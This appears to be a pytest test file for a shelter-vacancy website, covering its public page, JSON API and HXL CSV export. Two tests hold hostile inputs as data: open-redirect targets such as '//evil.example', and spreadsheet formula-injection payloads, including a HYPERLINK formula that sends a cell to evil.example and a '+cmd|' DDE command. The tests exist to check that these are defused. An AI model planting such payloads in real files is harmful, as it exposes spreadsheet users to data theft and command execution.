"""The arrivals' page, the public API and the HXL export: content, filters, cache, weight."""

import csv
import gzip
import io
import json
import re
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.conf import settings
from django.contrib.staticfiles import finders
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from coordination import public
from coordination.households import services
from coordination.meals import services as meal_services
from shelter import services as shelter_services
from shelter.models import OccupancyReason, Shelter, Space
from tests.factories import HouseholdFactory, MealOfferFactory, ShelterFactory, SpaceFactory

pytestmark = pytest.mark.django_db


def _shelter(name, places, occupied=0, **fields):
    shelter = ShelterFactory(name=name, **fields)
    space = SpaceFactory(shelter=shelter, places=places)
    if occupied:
        shelter_services.occupancy_change(
            space_id=space.pk, delta=occupied, reason=OccupancyReason.COUNT, by=None
        )
    return shelter


def _names(response) -> list[str]:
    return [s.name for s in response.context["shelters"]]


def test_open_shelters_most_free_first_full_last_and_closed_hidden(client):
    _shelter("Few", 10, 8)
    _shelter("Many", 50, 10)
    _shelter("Full", 5, 5)
    _shelter("Closed", 50, status=Shelter.Status.CLOSED)
    response = client.get("/")
    assert response.status_code == 200
    assert _names(response) == ["Many", "Few", "Full"]
    assert "FULL" in response.content.decode()


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"family": "on"}, {"Family", "Pets"}),
        ({"women": "on"}, {"Family", "Pets", "Women"}),
        ({"pet": "on"}, {"Pets"}),
        ({"wheelchair": "on"}, {"Women"}),
        ({"group": "6"}, {"Family"}),
        ({"group": "x"}, {"Family", "Pets", "Women", "Men"}),
        # A man on his own: every shelter but those for women and children only.
        ({"single_man": "on"}, {"Family", "Pets", "Men"}),
        ({"single_man": "on", "pet": "on"}, {"Pets"}),
    ],
)
def test_filters_narrow_the_list(client, query, expected):
    _shelter("Family", 10, accepts_families=True)
    _shelter("Pets", 5, accepts_families=True, pets_allowed=True)
    _shelter(
        "Women", 5, women_children_only=True, wheelchair_accessible=True, accepts_families=False
    )
    _shelter("Men", 5, men_only=True)
    response = client.get("/", query)
    assert response.status_code == 200
    assert set(_names(response)) == expected


def test_a_bad_group_size_gets_a_message_at_the_field(client):
    response = client.get("/", {"group": "-3"})
    assert response.status_code == 200
    assert 'id="group-error"' in response.content.decode()


def test_group_filter_needs_one_space_for_the_whole_group(client):
    shelter = _shelter("Two rooms", 4)
    SpaceFactory(shelter=shelter, places=4)
    assert _names(client.get("/", {"group": "5"})) == []
    assert _names(client.get("/", {"group": "4"})) == ["Two rooms"]


def test_held_places_count_as_taken_on_the_public_page(client, coordinator):
    shelter = _shelter("Held", 4)
    services.hold_create(
        household_id=HouseholdFactory(size=3).pk, space_id=shelter.spaces.get().pk, by=coordinator
    )
    (row,) = client.get("/").context["shelters"]
    assert row.free == 1


def test_card_shows_directions_phone_rules_and_freshness(client):
    _shelter(
        "Cinema",
        10,
        2,
        latitude="51.2354",
        longitude="51.3710",
        phone="+7 711 250 00 00",
        pets_allowed=True,
    )
    body = client.get("/").content.decode()
    assert "geo:51.235400,51.371000" in body
    assert 'href="tel:+77112500000"' in body
    assert "Pets allowed" in body
    assert "updated just now" in body


def test_old_figures_are_marked_possibly_out_of_date(client):
    _shelter("Old", 10, 2)
    with time_machine.travel(timezone.now() + timedelta(hours=7)):
        body = client.get("/").content.decode()
    assert "possibly out of date" in body


def test_meals_today_show_portions_left(client, coordinator):
    offer = MealOfferFactory(provider="Café Dastarkhan", portions=10, halal=True)
    meal_services.meal_claim(
        offer_id=offer.pk, shelter_id=ShelterFactory().pk, portions=4, by=coordinator
    )
    MealOfferFactory(provider="Yesterday", date=timezone.localdate() - timedelta(days=1))
    body = client.get("/").content.decode()
    assert "6 portions left" in body
    assert "Halal" in body
    assert "Yesterday" not in body


def test_a_meal_of_the_city_today_shows_no_date_even_before_utc_midnight(client):
    # 00:30 in Uralsk (UTC+5) is still yesterday in UTC: "today" is the city's date.
    with time_machine.travel(datetime(2026, 11, 25, 0, 30, tzinfo=ZoneInfo("Asia/Oral"))):
        MealOfferFactory(provider="Tonight")
        MealOfferFactory(provider="Tomorrow", date=timezone.localdate() + timedelta(days=1))
        body = client.get("/").content.decode()
    assert "25.11.2026" not in body and "11/25/2026" not in body
    tomorrow = re.search(r"·\s*([^·<]+?)\s*·\s*Tomorrow", body)
    assert tomorrow and "26" in tomorrow.group(1)


def test_public_shelter_page_and_about(client):
    shelter = _shelter("Cinema", 10, public_notes="Tea all night")
    assert (
        "Tea all night" in client.get(reverse("public_shelter", args=[shelter.pk])).content.decode()
    )
    assert client.get(reverse("public_shelter", args=[999999])).status_code == 404
    assert client.get(reverse("about")).status_code == 200


def test_language_follows_the_browser_and_the_switcher_keeps_filters(client):
    _shelter("Cinema", 10)
    page = client.get("/", {"family": "on"}, HTTP_ACCEPT_LANGUAGE="ru")
    assert page.context["LANGUAGE_CODE"] == "ru"
    assert '<html lang="ru">' in page.content.decode()
    assert 'href="/language/kk/?next=/%3Ffamily%3Don"' in page.content.decode()
    switched = client.get("/language/kk/", {"next": "/?family=on"})
    assert switched["Location"] == "/?family=on"
    assert client.get("/language/kk/", {"next": "https://evil.example/"})["Location"] == "/"
    assert client.get("/language/xx/").status_code == 404
    assert '<html lang="kk">' in client.get("/?family=on").content.decode()


@pytest.mark.parametrize("back", ["x", "0", "//evil.example", "/\\evil.example"])
def test_the_language_switchers_go_back_to_local_pages_only(client, back):
    """The public link (GET) and the logged-in pages' form (POST) follow the same rule."""
    assert client.get("/language/ru/", {"next": back})["Location"] == "/"
    posted = client.post(reverse("set_language"), {"language": "kk", "next": back})
    assert (posted.status_code, posted["Location"]) == (302, "/")
    assert posted.cookies[settings.LANGUAGE_COOKIE_NAME].value == "kk"
    kept = client.post(reverse("set_language"), {"language": "kk", "next": "/meals/?x=1"})
    assert kept["Location"] == "/meals/?x=1"
    unknown = client.post(reverse("set_language"), {"language": "xx", "next": "/about/"})
    assert unknown["Location"] == "/about/"
    assert settings.LANGUAGE_COOKIE_NAME not in unknown.cookies


def test_first_load_is_under_30_kb_compressed_with_no_other_host(client):
    for index in range(40):
        _shelter(
            f"Shelter number {index}",
            10 + index,
            index,
            pets_allowed=True,
            phone="+7 711 000",
            district=f"District {index % 8}",  # the district filter lists each once
        )
    for _ in range(5):
        MealOfferFactory(hot_meal=True, vegetarian=True)
    html = client.get("/").content
    assets = re.findall(rb'(?:href|src)="/static/([^"]+)"', html)
    total = len(gzip.compress(html))
    for asset in assets:
        with open(finders.find(asset.decode()), "rb") as handle:
            total += len(gzip.compress(handle.read()))
    assert {a.rsplit(b".", 1)[-1] for a in assets} <= {b"css", b"js"}
    print(f"first load of / gzipped: {total} bytes")
    assert total <= 30 * 1024, f"{total} bytes"
    assert not re.search(rb'(?:href|src)="(?:https?:)?//', html)


def test_snapshot_is_invalidated_by_every_kind_of_change(
    client, coordinator, django_capture_on_commit_callbacks
):
    shelter = _shelter("Cinema", 10)
    space = shelter.spaces.get()
    committed = django_capture_on_commit_callbacks  # on_commit runs as after a real commit

    def free() -> int:
        return public.snapshot().shelters[0].free

    assert free() == 10
    with committed(execute=True):
        shelter_services.occupancy_change(
            space_id=space.pk, delta=3, reason=OccupancyReason.COUNT, by=None
        )
    assert free() == 7
    space.refresh_from_db()
    space.places = 12
    with committed(execute=True):
        shelter_services.space_save(space=space, fields=["places"], by=None)
    assert free() == 9
    with committed(execute=True):
        Shelter.objects.filter(pk=shelter.pk).get().save()  # an edit of the shelter's text
        offer = MealOfferFactory(portions=5)
    assert public.snapshot().meals[0].remaining == 5
    with committed(execute=True):
        meal_services.meal_claim(
            offer_id=offer.pk, shelter_id=shelter.pk, portions=2, by=coordinator
        )
    assert public.snapshot().meals[0].remaining == 3


def _seed_many(count: int) -> None:
    shelters = Shelter.objects.bulk_create(
        ShelterFactory.build(name=f"S{i}", address=f"Street {i}") for i in range(count)
    )
    Space.objects.bulk_create(
        Space(shelter=shelter, name="Hall", places=10, occupied=i % 10)
        for i, shelter in enumerate(shelters)
    )


@pytest.mark.parametrize("size", [10, 500])
@pytest.mark.parametrize("url", ["/", "/api/v1/shelters/"])
def test_public_queries_do_not_grow_with_shelters(client, size, url):
    _seed_many(size)
    public.invalidate()
    with CaptureQueriesContext(connection) as cold:
        assert client.get(url).status_code == 200
    # cold: 1 largest free space per shelter, 2 shelters with sums and last count, 3 meals,
    # 4 residents' offers summed, 5 their approved places' free and used places summed
    assert len(cold) == 5
    with CaptureQueriesContext(connection) as warm:
        assert client.get(url).status_code == 200
    assert len(warm) == 0  # served from the cached snapshot


def test_api_lists_filters_and_shows_one(client):
    family = _shelter("Family", 10, 4, accepts_families=True)
    _shelter("Men", 10, men_only=True, accepts_families=False)
    _shelter("Closed", 10, status=Shelter.Status.CLOSED)
    response = client.get("/api/v1/shelters/")
    assert response.status_code == 200
    data = response.json()
    assert {row["name"] for row in data} == {"Family", "Men", "Closed"}
    families = client.get("/api/v1/shelters/?family=true").json()
    assert {row["name"] for row in families} == {"Family", "Closed"}  # closed ones are listed too
    assert next(row for row in families if row["name"] == "Closed")["status"] == "closed"
    one = client.get(f"/api/v1/shelters/{family.pk}/").json()
    assert (one["places"], one["occupied"], one["free"], one["status"]) == (10, 4, 6, "open")
    assert one["rules"]["accepts_families"] is True
    assert client.get("/api/v1/shelters/999999/").status_code == 404
    assert client.get("/api/v1/shelters/?group=abc").status_code == 422
    assert client.get("/api/v1/shelters/?group=500").status_code == 422


def test_the_api_list_answers_head_as_get_and_refuses_writes(client):
    """Monitors and link checkers ask HEAD: the list's headers, without a body."""
    _shelter("Family", 10, 4)
    get, head = client.get("/api/v1/shelters/"), client.head("/api/v1/shelters/")
    assert head.status_code == get.status_code == 200
    assert head["Content-Type"] == get["Content-Type"] == "application/json"
    assert head.content == b""
    assert client.post("/api/v1/shelters/").status_code in (403, 405)  # never a write


def test_api_meals_and_cors(client):
    MealOfferFactory(provider="Kitchen", portions=7)
    response = client.get("/api/v1/meals/", HTTP_ORIGIN="https://map.example.org")
    assert response["Access-Control-Allow-Origin"] == "*"
    (meal,) = response.json()
    assert (meal["provider"], meal["remaining"]) == ("Kitchen", 7)
    assert "contact" not in meal


def test_openapi_schema_describes_the_responses(client):
    schema = client.get("/api/v1/openapi.json").json()
    assert schema["openapi"].startswith("3.")
    paths = schema["paths"]
    assert {"/api/v1/shelters/", "/api/v1/shelters/{shelter_id}/", "/api/v1/meals/"} <= set(paths)
    shelter_schema = schema["components"]["schemas"]["ShelterOut"]["properties"]
    assert {"id", "name", "free", "places", "occupied", "updated_at", "rules"} <= set(
        shelter_schema
    )


def test_hxl_csv_has_the_hashtag_row_and_the_figures(client):
    _shelter("Cinema", 200, 150, latitude="51.2", longitude="51.3")
    response = client.get("/api/v1/shelters.csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header, tags, first = rows[0], rows[1], rows[2]
    assert all(tag.startswith("#") for tag in tags)
    record = dict(zip(tags, first, strict=True))
    assert record["#loc+name"] == "Cinema"
    assert (record["#capacity"], record["#reached"], record["#capacity+free"]) == (
        "200",
        "150",
        "50",
    )
    assert record["#geo+lat"] == "51.2"
    assert "#adm2+name" in tags and "#date+updated" in tags
    assert header[0] == "id"


def test_hxl_csv_defuses_formulas_in_names_and_addresses(client):
    """A spreadsheet opening the public file must not run a cell someone typed."""
    _shelter('=HYPERLINK("http://evil.example/?"&A1,"Click")', 10, address="@SUM(1+1)")
    _shelter("+cmd|' /C calc'!A0", 10, address="-2+3", district="\tTab")
    _shelter("Cinema Park", 10, address="Dostyk 1", latitude="-33.5", longitude="-70.6")
    rows = list(csv.reader(io.StringIO(client.get("/api/v1/shelters.csv").content.decode())))
    records = [dict(zip(rows[1], row, strict=True)) for row in rows[2:]]
    cells = {
        (r["#loc+name"], r["#loc+address"]) for r in records if r["#loc+name"] != "Cinema Park"
    }
    assert cells == {
        ('\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'@SUM(1+1)"),
        ("'+cmd|' /C calc'!A0", "'-2+3"),
    }
    assert next(r["#adm3+name"] for r in records if r["#loc+name"].startswith("'+")) == "'\tTab"
    plain = next(r for r in records if r["#loc+name"] == "Cinema Park")
    assert (plain["#loc+address"], plain["#geo+lat"]) == ("Dostyk 1", "-33.5")  # numbers stay


def test_a_burst_of_changes_rebuilds_the_snapshot_once_per_interval(
    client, settings, django_capture_on_commit_callbacks
):
    """Twenty changes in a moment, the page read after each: one rebuild, not twenty. The
    figures are at most PUBLIC_REBUILD_SECONDS behind, then current."""
    settings.PUBLIC_REBUILD_SECONDS = 1.0
    shelter = _shelter("Cinema", 30)
    space = shelter.spaces.get()
    with time_machine.travel(timezone.now(), tick=False) as traveller:
        assert public.snapshot().shelters[0].free == 30  # built now
        rebuilds = 0
        for _ in range(20):
            with django_capture_on_commit_callbacks(execute=True):
                shelter_services.occupancy_change(
                    space_id=space.pk, delta=1, reason=OccupancyReason.COUNT, by=None
                )
            with CaptureQueriesContext(connection) as queries:
                assert client.get("/").status_code == 200
            rebuilds += any("shelter_shelter" in q["sql"] for q in queries)
        assert rebuilds == 0
        assert public.snapshot().shelters[0].free == 30  # the newest built, under a second old
        assert public.version_now() != public.current_version()
        traveller.shift(1.1)
        assert public.snapshot().shelters[0].free == 10
        assert public.version_now() == public.current_version()
        assert b"10" in client.get("/").content


def test_version_changes_when_figures_change(client, django_capture_on_commit_callbacks):
    shelter = _shelter("Cinema", 10)
    client.get("/")
    before = client.get("/api/v1/version/").json()["version"]
    with django_capture_on_commit_callbacks(execute=True):
        shelter_services.occupancy_change(
            space_id=shelter.spaces.get().pk, delta=1, reason=OccupancyReason.COUNT, by=None
        )
    assert client.get("/api/v1/version/").json()["version"] != before
    assert json.loads(client.get("/api/v1/version/").content)["version"] == public.current_version()


def test_public_filters_are_read_from_the_address_once_and_remembered():
    from coordination.forms import public_filters

    family_of_four = public_filters("family=on&group=4")
    assert family_of_four == public.PublicFilters(family=True, group=4)
    assert public_filters("family=on&group=4") is family_of_four  # remembered, not rebuilt
    assert public_filters("") == public.PublicFilters()
    assert public_filters("group=many") is None  # the page shows the message at the field
    assert public_filters("group=0") is None
    long_address = "pet=on&" + "x=" + "y" * 300  # parsed, just not remembered
    assert public_filters(long_address) == public.PublicFilters(pets=True)


def test_the_district_filter_lists_the_districts_and_keeps_to_one(client):
    _shelter("Cinema", 10, district="Centre")
    _shelter("School", 10, district="Zachagansk")
    _shelter("Gym", 10, district="centre")  # typed in another case: the same district
    _shelter("Closed", 10, district="Derkul", status=Shelter.Status.CLOSED)
    page = client.get("/")
    body = page.content.decode()
    assert re.findall(r"<option>([^<]+)</option>", body) == ["Centre", "Zachagansk", "centre"]
    assert "Derkul" not in body  # no shelter taking people there
    assert "Cinema</a>" in body and "· Centre ·" in body  # the district on each card
    assert set(_names(client.get("/", {"district": "Centre"}))) == {"Cinema", "Gym"}
    chosen = client.get("/", {"district": "Zachagansk"}).content.decode()
    assert "<option selected>Zachagansk</option>" in chosen
    assert "1 chosen" in chosen and '<details class="filter-box" open>' in chosen
    assert _names(client.get("/", {"district": "Nowhere"})) == []


def test_the_filters_fold_into_one_line_until_one_is_chosen(client):
    _shelter("Cinema", 10, district="Centre")
    body = client.get("/").content.decode()
    assert '<details class="filter-box">' in body
    assert '<a class="jump" href="#meals">' in body and '<h2 id="meals">' in body
    assert '<p class="auto-refresh" hidden>' in body  # shown by refresh.js only


def test_the_api_filters_by_district_and_for_a_man_on_his_own(client):
    _shelter("Cinema", 10, district="Centre")
    _shelter("Dormitory", 10, district="Centre", women_children_only=True)
    _shelter("School", 10, district="Zachagansk")

    def names(query: str) -> set[str]:
        return {row["name"] for row in client.get(f"/api/v1/shelters/?{query}").json()}

    assert names("district=centre") == {"Cinema", "Dormitory"}
    assert names("district=Centre&single_man=true") == {"Cinema"}
    assert names("single_man=true") == {"Cinema", "School"}
    assert client.get("/api/v1/shelters/?district=" + "x" * 81).status_code == 422


def test_the_shelter_page_says_opening_hours_and_lists_amenities(client):
    allday = _shelter("Cinema", 10, has_showers=True, has_kitchen=True, has_heating=False)
    nights = _shelter(
        "School", 10, opens_at="20:00", closes_at="08:00", has_heating=False, has_wifi=False
    )
    body = client.get(reverse("public_shelter", args=[allday.pk])).content.decode()
    assert "<dt>Opening hours</dt><dd>Day and night, 24 hours</dd>" in body
    amenities = re.search(r'<ul class="amenities">(.*?)</ul>', body, re.S).group(1)
    assert re.findall(r"<li>([^<]+)</li>", amenities) == ["showers", "kitchen"]
    assert "·" not in amenities
    body = client.get(reverse("public_shelter", args=[nights.pk])).content.decode()
    assert "<dd>20:00\u201308:00</dd>" in body  # an en dash
    assert "Hours: 20:00\u201308:00" in body  # on its card too
    assert "Amenities" not in body  # none: no empty list
